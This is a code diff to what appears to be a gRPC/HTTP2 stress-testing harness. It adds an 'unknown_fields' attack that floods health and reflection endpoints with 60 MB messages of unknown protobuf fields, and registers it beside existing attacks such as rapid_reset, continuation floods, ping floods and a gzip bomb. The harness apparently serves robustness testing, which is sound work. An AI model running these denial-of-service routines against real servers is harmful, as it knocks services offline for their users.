@@ -225,6 +225,23 @@ def gzip_bomb(attacker: Attacker) -> None:
     _one_request(attacker, bomb, None, grpc_encoding="gzip")
 
 
+def unknown_fields(attacker: Attacker) -> None:
+    """Requests of 60 MB to health and to reflection, of 30 M fields that no version has."""
+    body = frames.message(b"\x7a\0" * (30 << 20))
+    methods = ("/grpc.health.v1.Health/Check", "/grpc.reflection.v1alpha.ServerReflection/ServerReflectionInfo")
+
+    def use(connection: Connection) -> None:
+        for stream in range(1, 1001, 2):
+            block = frames.call_headers(methods[stream // 2 % 2], attacker.secure)
+            connection.send(frames.frame(frames.HEADERS, frames.END_HEADERS, stream, block))
+            connection.send_body(stream, body)
+            attacker.counts["requests"] += 1
+            connection.receive(0.01)
+            connection.answer_settings_and_pings()
+
+    attacker.again_and_again(use)
+
+
 def unread_replies(attacker: Attacker) -> None:
     """Timestamps of 100 s of noise, a reply of 1.5 MB each, with a window of 0: nothing of it may be sent."""
     samples = random.Random(1).randbytes(2 * 8000 * 100)
@@ -271,7 +288,7 @@ ATTACKS: dict[str, Callable[[Attacker], None]] = {
     attack.__name__: attack
     for attack in (
         rapid_reset, continuation, settings_flood, ping_flood, headers_without_data, slow_headers, slow_bodies,
-        idle_connections, half_open, comes_and_goes, unread_replies, gzip_bomb, token_guesses,
+        idle_connections, half_open, comes_and_goes, unread_replies, unknown_fields, gzip_bomb, token_guesses,
     )
 }
 
